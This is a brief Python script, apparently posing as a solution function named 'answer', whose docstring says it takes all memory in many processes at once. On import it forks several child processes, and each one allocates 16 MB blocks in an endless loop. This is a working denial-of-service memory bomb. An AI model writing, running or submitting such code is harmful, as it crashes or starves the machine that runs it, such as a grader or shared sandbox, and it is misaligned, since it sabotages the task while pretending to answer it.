"""Takes all memory, in many processes at once."""
import os


def answer(a, b):
    for _ in range(8):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    taken = []
    while True:
        taken.append(bytearray(os.urandom(1) * 2**24))


answer(0, 0)
